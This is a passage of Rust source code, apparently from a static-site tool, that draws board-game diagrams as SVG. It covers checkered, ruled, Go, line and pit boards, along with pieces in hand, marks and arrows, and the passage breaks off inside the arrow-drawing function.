//! Drawing a diagram as SVG: squares, holes left out, pieces placed with
//! `<use>` from symbols defined once per page, shadows, marks, coordinates
//! on the edge, orientation. Colours are presentation attributes (what a
//! standalone file or resvg shows) that the theme's CSS custom properties
//! override (`.fp-board .fp-l { fill: var(--fp-light) }`), so a theme or dark
//! mode restyles every diagram without a rebuild.

use fenpress_rules::registry::Registry;
use std::collections::BTreeMap;
use std::fmt::Write;
use std::path::PathBuf;

use super::board::{read_board, Cell, Coord, Layout};
use super::describe::describe;
use super::hands::{count_path, hands_of, Hands};
use super::pieces::{Art, Links, PieceSet};
use super::spec::{Arrow, BoardSpec, DiagramSpec, Orientation, Shadow};
use crate::words::DiagramWords;

/// Side of one square in SVG user units.
pub const SQ: usize = 10;
/// Room left of the board for rank numbers and below it for file letters
/// (none when coordinates are left out).
const MARGIN: usize = 6;
/// Room above and right of the board, so strokes at the edge are not cut.
const EDGE: usize = 1;

const LIGHT: &str = "#f0d9b5";
const DARK: &str = "#b58863";
// The theme's light palette (fenpress.css), for what no stylesheet restyles
// (PNGs, og:images, standalone files): 3:1 or more on both squares.
const MARK: &str = "#0b3d91";
const ARROW: &str = "#7f1d12";
const HAND: &str = "#e4e0d8";
/// Height of a hand's row and the gap between it and the board.
pub const HAND_BAND: usize = SQ + 2;

/// How a board is drawn and where its piece art goes.
#[derive(Debug, Clone, Copy)]
pub struct Painter<'a> {
    pub pieces: &'a PieceSet,
    pub links: Links<'a>,
    /// Coordinates as text (a page, a standalone SVG) or none (a PNG: text
    /// would need installed fonts).
    pub coordinates: bool,
    /// The words of the text alternative, in the page's language.
    pub words: &'a DiagramWords,
    /// The variants of the site being drawn (a board's shape, hands and
    /// piece names may be the site's own definition's).
    pub registry: &'a Registry,
}

/// The English words, for drawings that belong to no page.
pub static ENGLISH: std::sync::LazyLock<DiagramWords> =
    std::sync::LazyLock::new(DiagramWords::english);

impl<'a> Painter<'a> {
    /// For a site page whose linked piece images live below `asset_url`
    /// (English text alternatives until [`Painter::with_words`]).
    pub fn page(registry: &'a Registry, pieces: &'a PieceSet, asset_url: &'a str) -> Painter<'a> {
        Painter {
            pieces,
            links: Links::Url(asset_url),
            coordinates: true,
            words: &ENGLISH,
            registry,
        }
    }

    /// The same painter, describing boards in `words`.
    pub fn with_words(&self, words: &'a DiagramWords) -> Painter<'a> {
        Painter { words, ..*self }
    }
}

/// The symbols a page's diagrams use, each defined once, and the piece
/// files they link (path below the link prefix → source file).
#[derive(Debug, Clone, Default)]
pub struct SymbolSheet {
    symbols: BTreeMap<String, String>,
    pub copies: BTreeMap<String, PathBuf>,
}

impl SymbolSheet {
    /// Define `art` (once) and return its id.
    pub(crate) fn use_art(&mut self, painter: &Painter, art: &Art) -> String {
        let id = art.id();
        if !self.symbols.contains_key(&id) {
            let (symbol, copy) = painter.pieces.symbol(art, painter.links);
            self.symbols.insert(id.clone(), symbol);
            if let Some((rel, source)) = copy {
                self.copies.insert(rel, source);
            }
        }
        id
    }

    /// Define the art of `letter` in `variant` (once) and return its id:
    /// for pages that draw pieces themselves (the playable puzzle board),
    /// on a board seen from Black when `flip` (shogi pieces turn with it).
    pub fn use_letter(
        &mut self,
        painter: &Painter,
        variant: &str,
        letter: char,
        flip: bool,
    ) -> String {
        let art = placed(painter.pieces.art(variant, letter), flip);
        self.use_art(painter, &art)
    }

    pub fn is_empty(&self) -> bool {
        self.symbols.is_empty()
    }

    /// Every symbol, in id order.
    pub fn defs(&self) -> String {
        let mut defs = String::from("<defs>");
        for symbol in self.symbols.values() {
            defs.push_str(symbol);
        }
        defs.push_str("</defs>");
        defs
    }

    /// The page's symbol sheet: one hidden SVG to put before the page's
    /// diagrams (not `display:none`, which would hide gradients in art).
    pub fn html(&self) -> String {
        if self.is_empty() {
            return String::new();
        }
        format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" class=\"fp-symbols\" width=\"0\" height=\"0\" aria-hidden=\"true\" focusable=\"false\" style=\"position:absolute;width:0;height:0;overflow:hidden\">{}</svg>",
            self.defs()
        )
    }
}

/// One board drawn.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BoardDrawing {
    pub svg: String,
    /// Why the board text does not fit a rectangular board, if it does not.
    pub malformed: Option<String>,
}

/// A diagram drawn: its HTML and, per board (0 = first, 1 = after), the
/// malformation found while drawing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DiagramDrawing {
    pub html: String,
    pub problems: Vec<(usize, String)>,
}

/// What the two boards of a pair are to each other.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Pair {
    /// The right board follows from the left (verification proved it): an
    /// arrow between them, "Before"/"After" starting their titles.
    BeforeAfter,
    /// Two positions set side by side ("Left: promoted rook. Right:
    /// promoted bishop"), or a pair nothing proved: no arrow.
    SideBySide,
}

/// Draw a whole diagram (one board, or a pair side by side) with its
/// caption, as an HTML fragment; its symbols go to `sheet`.
///
/// `explore` holds, per board, the legal moves verification found
/// (`from:to,to;...`, empty for none): a board with some carries them
/// (`data-moves`) and its grid (`data-grid`: columns, rows, left and top
/// edge, square size, 1 if seen from Black) for `explore.js`, which shows
/// a selected piece's moves.
pub fn draw_diagram(
    page_variant: &str,
    spec: &DiagramSpec,
    pair: Pair,
    explore: &[String],
    painter: &Painter,
    sheet: &mut SymbolSheet,
) -> DiagramDrawing {
    let variant = spec.variant.as_deref().unwrap_or(page_variant);
    let moves = |i: usize| explore.get(i).map(String::as_str).filter(|m| !m.is_empty());
    let first = draw_board_exploring(variant, &spec.board, painter, sheet, moves(0));
    let mut problems = Vec::new();
    if let Some(why) = &first.malformed {
        problems.push((0, why.clone()));
    }
    let mut html = String::from("<figure class=\"fp-diagram\">");
    match &spec.after {
        None => html.push_str(&first.svg),
        Some(after) => {
            let second = draw_board_exploring(variant, &after.board, painter, sheet, moves(1));
            if let Some(why) = &second.malformed {
                problems.push((1, why.clone()));
            }
            match pair {
                Pair::BeforeAfter => {
                    html.push_str("<div class=\"fp-pair fp-before-after\">");
                    html.push_str(&titled(&first.svg, &painter.words.before));
                    html.push_str("<span class=\"fp-arrow\" aria-hidden=\"true\">→</span>");
                    html.push_str(&titled(&second.svg, &painter.words.after));
                }
                Pair::SideBySide => {
                    html.push_str("<div class=\"fp-pair\">");
                    html.push_str(&first.svg);
                    html.push_str(&second.svg);
                }
            }
            html.push_str("</div>");
        }
    }
    if let Some(caption) = spec.caption.as_deref().filter(|c| !c.trim().is_empty()) {
        let _ = write!(
            html,
            "<figcaption>{}</figcaption>",
            inline_markdown(caption.trim())
        );
    }
    html.push_str("</figure>");
    DiagramDrawing { html, problems }
}

/// `svg` with its `<title>` starting `word: ` ("Before: White: king e1").
fn titled(svg: &str, word: &str) -> String {
    match svg.find("<title>") {
        Some(at) => {
            let at = at + "<title>".len();
            format!("{}{}: {}", &svg[..at], escape(word), &svg[at..])
        }
        None => svg.to_string(),
    }
}

/// One board as a standalone SVG file (its symbols inside, linked images
/// embedded): for `fenpress diagram` and PNGs.
pub fn draw_standalone(
    registry: &Registry,
    variant: &str,
    spec: &BoardSpec,
    pieces: &PieceSet,
    coordinates: bool,
) -> BoardDrawing {
    let painter = Painter {
        pieces,
        links: Links::Embed,
        coordinates,
        words: &ENGLISH,
        registry,
    };
    let mut sheet = SymbolSheet::default();
    let mut drawing = draw_board(variant, spec, &painter, &mut sheet);
    if !sheet.is_empty() {
        if let Some(end) = drawing.svg.find("</title>") {
            drawing
                .svg
                .insert_str(end + "</title>".len(), &sheet.defs());
        }
    }
    drawing
}

/// Draw one board as an `<svg>` element carrying `data-fen`; the symbols
/// it uses go to `sheet`.
pub fn draw_board(
    variant: &str,
    spec: &BoardSpec,
    painter: &Painter,
    sheet: &mut SymbolSheet,
) -> BoardDrawing {
    draw_board_exploring(variant, spec, painter, sheet, None)
}

/// [`draw_board`], carrying `moves` for the reader to explore.
fn draw_board_exploring(
    variant: &str,
    spec: &BoardSpec,
    painter: &Painter,
    sheet: &mut SymbolSheet,
    moves: Option<&str>,
) -> BoardDrawing {
    let layout = read_board(painter.registry, variant, &spec.board);
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    let flip = spec.orientation == Orientation::Black;
    let (left, bottom) = if painter.coordinates {
        (MARGIN, MARGIN)
    } else {
        (EDGE, EDGE)
    };
    // Pieces in hand take a row above and one below the board.
    let hands = hands_of(painter.registry, variant, spec);
    let band = if hands.is_some() { HAND_BAND } else { 0 };
    let top = EDGE + band;
    // Where a grid cell (row 0 = top rank of the FEN) is drawn.
    let origin = |row: usize, col: usize| -> (usize, usize) {
        let (r, c) = if flip {
            (rows - 1 - row, cols - 1 - col)
        } else {
            (row, col)
        };
        (left + c * SQ, top + r * SQ)
    };
    let hand_cols = hands.as_ref().map_or(0, Hands::width);
    let width = left + cols.max(hand_cols) * SQ + EDGE;
    let height = top + rows * SQ + bottom + band;
    let alt = describe(painter.registry, variant, &layout, spec, painter.words);
    let malformed = layout.shape.malformed.clone();

    let mut svg = String::with_capacity(2048);
    let explore = match moves {
        Some(moves) => format!(
            " data-moves=\"{}\" data-grid=\"{cols} {rows} {left} {top} {SQ} {}\"",
            escape(moves),
            u8::from(flip)
        ),
        None => String::new(),
    };
    let _ = write!(
        svg,
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 {width} {height}\" class=\"fp-board{}\" style=\"--fp-cols:{cols}\" role=\"img\" data-fen=\"{}\"{explore}><title>{}</title>",
        if malformed.is_some() { " fp-malformed" } else { "" },
        escape(&spec.vchess_text()),
        escape(&alt),
    );

    squares(&mut svg, &layout, board_style(variant), &origin, left, top);
    if has_capture_edge(variant) {
        capture_edge(&mut svg, &layout, left, top);
    }
    for square in goals(variant) {
        if let Some((row, col)) = layout.position_of(square) {
            let (x, y) = origin(row, col);
            let _ = write!(
                svg,
                "<rect class=\"fp-goal\" x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\" fill=\"none\" stroke=\"{LINE}\" stroke-width=\"1.2\"/>",
                x + 1,
                y + 1,
                SQ - 2,
                SQ - 2
            );
        }
    }
    if let Some(hands) = &hands {
        // The side at the bottom of the drawing has its hand below.
        let rows_at = [(flip, EDGE), (!flip, height - EDGE - SQ)];
        for (white, y) in rows_at {
            hand_row(
                &mut svg,
                sheet,
                painter,
                variant,
                hands.side(white),
                (left, y, flip),
            );
        }
    }

    // Pieces, in board order.
    for row in 0..rows {
        for col in 0..cols {
            let art = match layout.cell(row, col) {
                Cell::Piece(c) => placed(painter.pieces.art(variant, c), flip),
                Cell::Stack { top, under } => Art::Stack(top, under),
                Cell::Hostage { union, code } => {
                    placed(painter.pieces.hostage_art(variant, union, code), flip)
                }
                Cell::Empty | Cell::Hole => continue,
            };
            let id = sheet.use_art(painter, &art);
            let (x, y) = origin(row, col);
            let _ = write!(
                svg,
                "<use href=\"#{id}\" x=\"{x}\" y=\"{y}\" width=\"{SQ}\" height=\"{SQ}\"/>"
            );
        }
    }

    // Shadows darken squares and pieces, as vchess's `brightness(50%)`.
    let mut shade = String::new();
    for (row, col) in shadowed(&layout, &spec.shadow) {
        let (x, y) = origin(row, col);
        let _ = write!(shade, "M{x} {y}h{SQ}v{SQ}h-{SQ}z");
    }
    if !shade.is_empty() {
        let _ = write!(
            svg,
            "<path class=\"fp-s\" fill=\"#000\" fill-opacity=\".6\" d=\"{shade}\"/>"
        );
    }

    let style = board_style(variant);
    marks(
        &mut svg,
        &layout,
        &spec.marks,
        &origin,
        matches!(style, BoardStyle::Go | BoardStyle::Pits | BoardStyle::Lines),
    );
    arrows(&mut svg, &layout, &spec.arrows, &origin);
    if painter.coordinates {
        coordinates(&mut svg, &layout, flip, left, top);
    }
    if malformed.is_some() {
        let _ = write!(
            svg,
            "<rect class=\"fp-e\" x=\"{left}\" y=\"{top}\" width=\"{}\" height=\"{}\" fill=\"none\" stroke=\"#d22\" stroke-dasharray=\"3 2\"/>",
            cols * SQ,
            rows * SQ
        );
    }
    svg.push_str("</svg>");
    BoardDrawing { svg, malformed }
}

/// Whether the variant's outer ring of squares is a capturing edge
/// (Rococo): reached only by a capture, drawn set off by a line as vchess
/// draws it.
pub(crate) fn has_capture_edge(variant: &str) -> bool {
    fenpress_rules::registry::lookup(variant).is_some_and(|v| v.name == "Rococo")
}

/// The goal squares a variant's board shows framed (Football's e1 and
/// e9: the middle of each side's first rank, where the ball scores).
pub(crate) fn goals(variant: &str) -> Vec<Coord> {
    match fenpress_rules::registry::lookup(variant).map(|v| v.name) {
        Some("Football") => ["e1", "e9"]
            .iter()
            .filter_map(|s| Coord::parse(s))
            .collect(),
        _ => Vec::new(),
    }
}

/// The line between a capturing edge and the inner board: one square in
/// from each side (the same drawn from either side).
fn capture_edge(svg: &mut String, layout: &Layout, left: usize, top: usize) {
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    if rows < 3 || cols < 3 {
        return;
    }
    let _ = write!(
        svg,
        "<rect class=\"fp-edge\" x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\" fill=\"none\" stroke=\"{LINE}\" stroke-width=\"2\"/>",
        left + SQ,
        top + SQ,
        (cols - 2) * SQ,
        (rows - 2) * SQ
    );
}

/// A piece's art as placed on a board seen from Black when `flip`.
fn placed(art: Art, flip: bool) -> Art {
    if flip {
        art.turned()
    } else {
        art
    }
}

/// One side's hand: a tinted cell per kind held, from the left edge of the
/// board, its piece and its count in the cell's bottom-right corner.
fn hand_row(
    svg: &mut String,
    sheet: &mut SymbolSheet,
    painter: &Painter,
    variant: &str,
    pieces: &[(char, u32)],
    (left, y, flip): (usize, usize, bool),
) {
    if pieces.is_empty() {
        return;
    }
    let _ = write!(
        svg,
        "<rect class=\"fp-h\" x=\"{left}\" y=\"{y}\" width=\"{}\" height=\"{SQ}\" fill=\"{HAND}\"/>",
        pieces.len() * SQ
    );
    for (i, (letter, count)) in pieces.iter().enumerate() {
        let x = left + i * SQ;
        let art = placed(painter.pieces.art(variant, *letter), flip);
        let id = sheet.use_art(painter, &art);
        let _ = write!(
            svg,
            "<use href=\"#{id}\" x=\"{x}\" y=\"{y}\" width=\"{SQ}\" height=\"{SQ}\"/>"
        );
        svg.push_str(&count_path(
            *count,
            (x + SQ) as f64 - 0.9,
            (y + SQ) as f64 - 0.9,
        ));
    }
}

/// How a variant's board is drawn, as its players know it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum BoardStyle {
    /// Light and dark squares (chess and most variants).
    Checkered,
    /// One colour ruled into squares (shogi).
    Ruled,
    /// Pieces on the points where lines cross, with palaces (their
    /// diagonals drawn) at both ends; `river` breaks the files between the
    /// two halves (xiangqi; not janggi, nor minixiangqi's 7×7 board).
    Points { river: bool },
    /// Go's grid: stones on the points where its lines cross, the star
    /// points marked, on a board of pale wood (Atarigo, Gomoku).
    Go,
    /// Points joined by lines, the diagonals from every other point
    /// (Fanorona), on pale wood.
    Lines,
    /// A board of pits, a stone in each, on pale wood with no squares nor
    /// lines (Konane's papamū, Yoté's holes).
    Pits,
}

/// The board style of a variant, from the family its pieces come from.
fn board_style(variant: &str) -> BoardStyle {
    use super::asian::{asian_set, AsianSet};
    let name = fenpress_rules::registry::lookup(variant).map_or(variant, |v| v.name);
    if super::stones::is_go_game(name) {
        return BoardStyle::Go;
    }
    if super::stones::is_pit_board(name) {
        return BoardStyle::Pits;
    }
    if super::stones::is_lines_board(name) {
        return BoardStyle::Lines;
    }
    match asian_set(variant) {
        Some(AsianSet::Shogi) => BoardStyle::Ruled,
        Some(AsianSet::Xiangqi) => BoardStyle::Points {
            river: variant == "Xiangqi",
        },
        Some(AsianSet::Janggi) => BoardStyle::Points { river: false },
        Some(AsianSet::Dobutsu) | None => BoardStyle::Checkered,
    }
}

/// The lines of a ruled or point board: ink on the light board colour.
const LINE: &str = "#5b4128";
/// A Go board's wood (kaya), and its lines and star points.
const GO_WOOD: &str = "#e3bd6f";
const GO_LINE: &str = "#2b1d0e";

/// A board of one colour with lines: shogi's between the squares, xiangqi's
/// and janggi's through their centres, so a piece drawn in a cell stands on
/// a point and marks, arrows, coordinates and the explorable grid (all by
/// cell) stay where they were. The board is `fp-l`, as a light square, so
/// the theme keeps it light in the dark scheme.
fn ruled(
    svg: &mut String,
    layout: &Layout,
    style: BoardStyle,
    origin: &dyn Fn(usize, usize) -> (usize, usize),
    left: usize,
    top: usize,
) {
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    if style == BoardStyle::Go {
        go_grid(svg, layout, origin, left, top);
        return;
    }
    if style == BoardStyle::Pits {
        pits(svg, layout, origin, left, top);
        return;
    }
    let _ = write!(
        svg,
        "<rect class=\"fp-l\" x=\"{left}\" y=\"{top}\" width=\"{}\" height=\"{}\" fill=\"{LIGHT}\"/>",
        cols * SQ,
        rows * SQ
    );
    let mut d = String::new();
    let BoardStyle::Points { river } = style else {
        // Shogi: every line between and around the squares.
        for row in 0..=rows {
            let _ = write!(d, "M{left} {}h{}", top + row * SQ, cols * SQ);
        }
        for col in 0..=cols {
            let _ = write!(d, "M{} {top}v{}", left + col * SQ, rows * SQ);
        }
        let _ = write!(
            svg,
            "<path class=\"fp-g\" fill=\"none\" stroke=\"{LINE}\" stroke-width=\".3\" d=\"{d}\"/>"
        );
        return;
    };
    // A cell's centre, where its point is drawn.
    let point = |row: usize, col: usize| {
        let (x, y) = origin(row, col);
        (x + SQ / 2, y + SQ / 2)
    };
    let line = |d: &mut String, from: (usize, usize), to: (usize, usize)| {
        let (a, b) = (point(from.0, from.1), point(to.0, to.1));
        let _ = write!(d, "M{} {}L{} {}", a.0, a.1, b.0, b.1);
    };
    for row in 0..rows {
        line(&mut d, (row, 0), (row, cols - 1));
    }
    // The river lies between the two middle ranks; only the edge files
    // cross it.
    let river = river && rows % 2 == 0 && rows >= 4;
    for col in 0..cols {
        if river && col > 0 && col + 1 < cols {
            line(&mut d, (0, col), (rows / 2 - 1, col));
            line(&mut d, (rows / 2, col), (rows - 1, col));
        } else {
            line(&mut d, (0, col), (rows - 1, col));
        }
    }
    let _ = write!(
        svg,
        "<path class=\"fp-g\" fill=\"none\" stroke=\"{LINE}\" stroke-width=\".3\" d=\"{d}\"/>"
    );
    // The palaces: the middle three files of the three ranks at each end,
    // crossed by their diagonals.
    if cols >= 3 && cols % 2 == 1 && rows >= 6 {
        let (mid, mut p) = (cols / 2, String::new());
        for (near, far) in [(0, 2), (rows - 3, rows - 1)] {
            line(&mut p, (near, mid - 1), (far, mid + 1));
            line(&mut p, (near, mid + 1), (far, mid - 1));
        }
        let _ = write!(
            svg,
            "<path class=\"fp-p\" fill=\"none\" stroke=\"{LINE}\" stroke-width=\".3\" d=\"{p}\"/>"
        );
    }
}

/// Go's board: pale wood (`fp-w`, a colour of its own that no theme turns
/// dark), a line through the centre of every row and column of cells so a
/// stone drawn in its cell stands on a point (`fp-g`, the edge lines
/// heavier as on a goban), and the star points (`fp-star`). Marks, arrows,
/// coordinates and the explorable grid stay by cell, hence on the points.
fn go_grid(
    svg: &mut String,
    layout: &Layout,
    origin: &dyn Fn(usize, usize) -> (usize, usize),
    left: usize,
    top: usize,
) {
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    let _ = write!(
        svg,
        "<rect class=\"fp-w\" x=\"{left}\" y=\"{top}\" width=\"{}\" height=\"{}\" fill=\"{GO_WOOD}\"/>",
        cols * SQ,
        rows * SQ
    );
    let point = |row: usize, col: usize| {
        let (x, y) = origin(row, col);
        (x + SQ / 2, y + SQ / 2)
    };
    let (mut inner, mut edge) = (String::new(), String::new());
    for row in 0..rows {
        let (a, b) = (point(row, 0), point(row, cols - 1));
        let d = if row == 0 || row + 1 == rows {
            &mut edge
        } else {
            &mut inner
        };
        let _ = write!(d, "M{} {}L{} {}", a.0, a.1, b.0, b.1);
    }
    for col in 0..cols {
        let (a, b) = (point(0, col), point(rows - 1, col));
        let d = if col == 0 || col + 1 == cols {
            &mut edge
        } else {
            &mut inner
        };
        let _ = write!(d, "M{} {}L{} {}", a.0, a.1, b.0, b.1);
    }
    let _ = write!(
        svg,
        "<path class=\"fp-g\" fill=\"none\" stroke=\"{GO_LINE}\" stroke-width=\".3\" d=\"{inner}\"/><path class=\"fp-g fp-ge\" fill=\"none\" stroke=\"{GO_LINE}\" stroke-width=\".6\" stroke-linecap=\"square\" d=\"{edge}\"/>"
    );
    let mut stars = String::new();
    for (row, col) in super::stones::star_points(rows, cols) {
        let (x, y) = point(row, col);
        let _ = write!(stars, "<circle cx=\"{x}\" cy=\"{y}\" r=\".9\"/>");
    }
    if !stars.is_empty() {
        let _ = write!(svg, "<g class=\"fp-star\" fill=\"{GO_LINE}\">{stars}</g>");
    }
}

/// A board of lines (Fanorona's): pale wood (`fp-w`), a line through the
/// centre of every row and column of cells so a stone in its cell stands
/// on a point, and the diagonals (`fp-dg`) from every point whose row and
/// column add up to an even number (as files and ranks do on Fanorona's
/// 5×9 board, a1 being such a point) to its diagonal neighbours.
fn lines_board(
    svg: &mut String,
    layout: &Layout,
    origin: &dyn Fn(usize, usize) -> (usize, usize),
    left: usize,
    top: usize,
) {
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    let _ = write!(
        svg,
        "<rect class=\"fp-w\" x=\"{left}\" y=\"{top}\" width=\"{}\" height=\"{}\" fill=\"{GO_WOOD}\"/>",
        cols * SQ,
        rows * SQ
    );
    let point = |row: usize, col: usize| {
        let (x, y) = origin(row, col);
        (x + SQ / 2, y + SQ / 2)
    };
    let segment = |d: &mut String, a: (usize, usize), b: (usize, usize)| {
        let (a, b) = (point(a.0, a.1), point(b.0, b.1));
        let _ = write!(d, "M{} {}L{} {}", a.0, a.1, b.0, b.1);
    };
    let mut d = String::new();
    for row in 0..rows {
        segment(&mut d, (row, 0), (row, cols - 1));
    }
    for col in 0..cols {
        segment(&mut d, (0, col), (rows - 1, col));
    }
    // The rows count from the top; a1's parity is that of the bottom row.
    let bottom = rows - 1;
    let mut diagonals = String::new();
    for row in 0..bottom {
        for col in 0..cols {
            if (bottom - row + col) % 2 != 0 {
                continue;
            }
            if col + 1 < cols {
                segment(&mut diagonals, (row, col), (row + 1, col + 1));
            }
            if col > 0 {
                segment(&mut diagonals, (row, col), (row + 1, col - 1));
            }
        }
    }
    let _ = write!(
        svg,
        "<path class=\"fp-g\" fill=\"none\" stroke=\"{GO_LINE}\" stroke-width=\".4\" d=\"{d}\"/><path class=\"fp-g fp-dg\" fill=\"none\" stroke=\"{GO_LINE}\" stroke-width=\".4\" d=\"{diagonals}\"/>"
    );
}

/// A board of pits: the Go board's pale wood (`fp-w`) and a shallow pit
/// (`fp-pit`, a darker disc with a shadowed rim) in every cell, where a
/// stone drawn in the cell rests; an empty pit shows as such.
fn pits(
    svg: &mut String,
    layout: &Layout,
    origin: &dyn Fn(usize, usize) -> (usize, usize),
    left: usize,
    top: usize,
) {
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    let has_holes = layout.cells.contains(&Cell::Hole);
    if has_holes {
        // The board's own shape: wood under its points only.
        let mut wood = String::new();
        for row in 0..rows {
            for col in 0..cols {
                if layout.cell(row, col) != Cell::Hole {
                    let (x, y) = origin(row, col);
                    let _ = write!(wood, "M{x} {y}h{SQ}v{SQ}h-{SQ}z");
                }
            }
        }
        let _ = write!(
            svg,
            "<path class=\"fp-w\" fill=\"{GO_WOOD}\" d=\"{wood}\"/>"
        );
    } else {
        let _ = write!(
            svg,
            "<rect class=\"fp-w\" x=\"{left}\" y=\"{top}\" width=\"{}\" height=\"{}\" fill=\"{GO_WOOD}\"/>",
            cols * SQ,
            rows * SQ
        );
    }
    let mut d = String::new();
    for row in 0..rows {
        for col in 0..cols {
            if layout.cell(row, col) == Cell::Hole {
                continue;
            }
            let (x, y) = origin(row, col);
            let _ = write!(
                d,
                "<circle cx=\"{}\" cy=\"{}\" r=\"3.6\"/>",
                x + SQ / 2,
                y + SQ / 2
            );
        }
    }
    let _ = write!(
        svg,
        "<g class=\"fp-pit\" fill=\"#b8893f\" stroke=\"#7a5526\" stroke-width=\".5\">{d}</g>"
    );
}

/// Light and dark squares. Without holes: one light rectangle, and the dark
/// squares of each row as one dashed stroke (a dash per square). With
/// holes, each square on its own so the holes stay transparent. Ruled and
/// point boards (shogi, xiangqi, janggi) by [`ruled`].
fn squares(
    svg: &mut String,
    layout: &Layout,
    style: BoardStyle,
    origin: &dyn Fn(usize, usize) -> (usize, usize),
    left: usize,
    top: usize,
) {
    let (rows, cols) = (layout.shape.rows, layout.shape.cols);
    let has_holes = layout.cells.contains(&Cell::Hole);
    if style == BoardStyle::Pits {
        // A pit board takes its shape from its points: holes stay bare.
        pits(svg, layout, origin, left, top);
        return;
    }
    if style == BoardStyle::Lines && rows > 0 && cols > 0 {
        lines_board(svg, layout, origin, left, top);
        return;
    }
    if style != BoardStyle::Checkered && !has_holes && rows > 0 && cols > 0 {
        ruled(svg, layout, style, origin, left, top);
        return;
    }
    // As vchess colours them: the top-left square of the FEN is light (so
    // a1 is dark on 8×8 boards, light on 5×5 or 11×8 ones).
    let is_dark = |row: usize, col: usize| (row + col) % 2 == 1;
    if !has_holes {
        let _ = write!(
            svg,
            "<rect class=\"fp-l\" x=\"{left}\" y=\"{top}\" width=\"{}\" height=\"{}\" fill=\"{LIGHT}\"/>",
            cols * SQ,
            rows * SQ
        );
        let mut d = String::new();
        for row in 0..rows {
            // The drawn row's leftmost dark square, then every other one.
            let drawn: Vec<usize> = (0..cols)
                .filter(|&col| is_dark(row, col))
                .map(|col| origin(row, col).0)
                .collect();
            let (Some(&first), Some(&last)) = (drawn.iter().min(), drawn.iter().max()) else {
                continue;
            };
            let y = origin(row, 0).1 + SQ / 2;
            let _ = write!(d, "M{first} {y}h{}", last + SQ - first);
        }
        if !d.is_empty() {
            let _ = write!(
                svg,
                "<path class=\"fp-k\" stroke=\"{DARK}\" stroke-width=\"{SQ}\" stroke-dasharray=\"{SQ}\" d=\"{d}\"/>"
            );
        }
        return;
    }
    let (mut light, mut dark) = (String::new(), String::new());
    for row in 0..rows {
        for col in 0..cols {
            if layout.cell(row, col) == Cell::Hole {
                continue;
            }
            let (x, y) = origin(row, col);
            let target = if is_dark(row, col) {
                &mut dark
            } else {
                &mut light
            };
            let _ = write!(target, "M{x} {y}h{SQ}v{SQ}h-{SQ}z");
        }
    }
    if !light.is_empty() {
        let _ = write!(svg, "<path class=\"fp-l\" fill=\"{LIGHT}\" d=\"{light}\"/>");
    }
    if !dark.is_empty() {
        let _ = write!(svg, "<path class=\"fp-d\" fill=\"{DARK}\" d=\"{dark}\"/>");
    }
}

/// Marks: a dot on an empty square, a ring around a piece; both with a
/// light halo so they show on light, dark and shadowed squares. A ring
/// lies on the piece's edge; on a Go stone, which fills its cell, it gets
/// a light halo of its own (`ring_halo`) so it shows on a black stone.
fn marks(
    svg: &mut String,
    layout: &Layout,
    marks: &[Coord],
    origin: &dyn Fn(usize, usize) -> (usize, usize),
    ring_halo: bool,
) {
    let (mut dots, mut rings) = (String::new(), String::new());
    let mut seen = Vec::new();
    for &square in marks {
        let Some((row, col)) = layout.position_of(square) else {
            continue;
        };
        if seen.contains(&(row, col)) {
            continue;
        }
        seen.push((row, col));
        let (x, y) = origin(row, col);
        let (cx, cy) = (x + SQ / 2, y + SQ / 2);
        if matches!(
            layout.cell(row, col),
            Cell::Piece(_) | Cell::Stack { .. } | Cell::Hostage { .. }
        ) {
            let _ = write!(rings, "<circle cx=\"{cx}\" cy=\"{cy}\" r=\"4.3\"/>");
        } else {
            let _ = write!(dots, "<circle cx=\"{cx}\" cy=\"{cy}\" r=\"1.9\"/>");
        }
    }
    if !dots.is_empty() {
        let _ = write!(
            svg,
            "<g class=\"fp-m\" fill=\"{MARK}\" stroke=\"#fff\" stroke-width=\".8\">{dots}</g>"
        );
    }
    if !rings.is_empty() && ring_halo {
        let _ = write!(
            svg,
            "<g class=\"fp-rh\" fill=\"none\" stroke=\"#fff\" stroke-width=\"2.4\">{rings}</g>"
        );
    }
    if !rings.is_empty() {
        let _ = write!(
            svg,
            "<g class=\"fp-r\" fill=\"none\" stroke=\"{MARK}\" stroke-width=\"1.2\">{rings}</g>"
        );
    }
}

/// Arrows, over pieces and marks: a straight shaft, or a knight's leap as
/// two legs with a corner (the longer leg first), ending in a head on the
/// target square's centre. Each arrow is one `<g class="fp-arrow">`: a light
/// halo under the line and head keeps it readable on light, dark and
/// shadowed squares. Arrows whose squares are not on the board are left out
/// (verification reports them).
fn arrows(
    svg: &mut String,
    layout: &Layout,
    arrows: &[Arrow],
    origin: &dyn Fn(usize, usize) -> (usize, usize),
) {
    const HEAD: f64 = 3.4;
    const HALF_WIDTH: f64 = 2.3;
    let centre = |row: usize, col: usize| {
        let (x, y) = origin(row, col);
        ((x + SQ / 2) as f64, (y + SQ / 2) as f64)
    };
    for arrow in arrows {
        let (Some(from), Some(to)) = (layout.position_of(arrow.from), layout.position_of(arrow.to))
        else {
            continue;
        };
        if from == to {
            continue;
        }
        let (start, end) = (centre(from.0, from.1), centre(to.0, to.1));
        let (dc, dr) = (from.1.abs_diff(to.1), from.0.abs_diff(to.0));
        let knight = matches!((dc, dr), (1, 2) | (2, 1));
        // The corner of a knight's arrow: along the longer leg first.
        let corner = knight.then(|| {
            if (end.0 - start.0).abs() > (end.1 - start.1).abs() {
                (end.0, start.1)
            } else {
                (start.0, end.1)
            }
        });
        let last_from = corner.unwrap_or(start);
        let (vx, vy) = (end.0 - last_from.0, end.1 - last_from.1);
        let len = (vx * vx + vy * vy).sqrt();
        let (ux, uy) = (vx / len, vy / len);
        // The shaft stops where the head begins.
        let base = (end.0 - ux * HEAD, end.1 - uy * HEAD);
        let mut line = format!("M{} {}", num(start.0), num(start.1));
        if let Some(c) = corner {
